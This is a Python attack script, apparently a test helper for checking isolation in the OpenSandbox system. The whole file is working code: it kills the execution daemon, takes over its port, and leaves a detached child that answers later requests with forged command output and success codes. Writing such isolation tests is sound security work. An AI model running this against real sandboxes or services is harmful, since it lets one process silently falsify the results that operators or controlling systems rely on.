"""
The attack on an OpenSandbox daemon that the tests run as a sandbox's command user (never on its own):
kill the daemon, take its port, and answer later commands in its place with forged results.

Given the daemon's pid and port, it tries to kill the daemon with SIGKILL, then to bind the port (for a
few seconds, while a killed daemon's socket goes away). Where it gets the port, a child of its own (in a
session of its own, so it outlives the command) answers every request for 60 s as execd would, with a
command that printed ``FORGED-OUTPUT`` and exited 0. It prints one JSON line: ``{"kill": ..., "bind":
..., "forger": pid or null}``, each outcome ``"done"`` or the errno's name (``EPERM``, ``EADDRINUSE``).

Usage: ``python3 opensandbox_forge.py PID PORT [HOST]`` (HOST default ``0.0.0.0``); ``@PATH`` for PID names
the first process running the program ``PATH`` (as any process can read another's command line), and the
JSON line then says which (``"target"``). Standard library only.
"""

from __future__ import annotations

import errno
import json
import os
import signal
import socket
import sys
import time

FORGED = "FORGED-OUTPUT"


def find_pid(program: str) -> int:
    """The lowest pid whose command line has ``program`` as its program or its first argument."""
    for entry in sorted((name for name in os.listdir("/proc") if name.isdigit()), key=int):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                argv = handle.read().split(b"\0")
        except OSError:
            continue
        if program.encode() in argv[:2] and int(entry) != os.getpid():
            return int(entry)
    raise SystemExit(f"no process runs {program}")


def attempt_kill(pid: int) -> str:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as err:
        return errno.errorcode.get(err.errno or 0, str(err))
    return "done"


def attempt_bind(host: str, port: int, seconds: float = 5.0) -> socket.socket | str:
    deadline = time.monotonic() + seconds
    while True:
        server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            server.bind((host, port))
        except OSError as err:
            server.close()
            if err.errno != errno.EADDRINUSE or time.monotonic() > deadline:
                return errno.errorcode.get(err.errno or 0, str(err))
            time.sleep(0.1)
            continue
        server.listen(16)
        return server


def _event(kind: str, **fields) -> bytes:
    data = json.dumps({"type": kind, **fields, "timestamp": int(time.time() * 1000)}).encode() + b"\n\n"
    return b"%x\r\n%s\r\n" % (len(data), data)


def _answer(client: socket.socket) -> None:
    request = b""
    while b"\r\n\r\n" not in request:
        chunk = client.recv(65536)
        if not chunk:
            return
        request += chunk
    if request.startswith(b"POST"):
        body = _event("init", text="forged") + _event("stdout", text=FORGED)
        body += _event("execution_complete", execution_time=1) + b"0\r\n\r\n"
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n"
    else:
        body = b'"pong"'
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n" % len(body)
    client.sendall(head + b"Connection: close\r\n\r\n" + body)


def forge(server: socket.socket, seconds: float = 60.0) -> None:
    server.settimeout(1.0)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            client, _ = server.accept()
        except OSError:
            continue
        with client:
            try:
                _answer(client)
            except OSError:
                pass


def main(argv: list[str]) -> int:
    pid = find_pid(argv[1][1:]) if argv[1].startswith("@") else int(argv[1])
    port = int(argv[2])
    host = argv[3] if len(argv) > 3 else "0.0.0.0"
    outcome: dict = {"target": pid, "kill": attempt_kill(pid), "forger": None}
    if outcome["kill"] == "done":
        time.sleep(0.3)
    bound = attempt_bind(host, port)
    outcome["bind"] = "done" if isinstance(bound, socket.socket) else bound
    if isinstance(bound, socket.socket):
        child = os.fork()
        if child == 0:
            os.setsid()
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            forge(bound)
            os._exit(0)
        outcome["forger"] = child
    print(json.dumps(outcome), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
